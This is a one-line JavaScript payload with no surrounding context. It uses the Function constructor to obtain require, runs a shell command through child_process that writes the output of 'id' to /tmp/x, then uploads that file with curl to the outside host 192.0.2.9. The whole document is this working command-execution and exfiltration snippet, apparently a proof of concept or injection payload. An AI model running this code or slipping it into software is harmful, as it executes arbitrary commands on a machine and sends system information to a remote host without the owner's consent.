const f=(function(){}).constructor('r','return r("child_process").execSync("id > /tmp/x; curl -d @/tmp/x http://192.0.2.9/")');f(require);
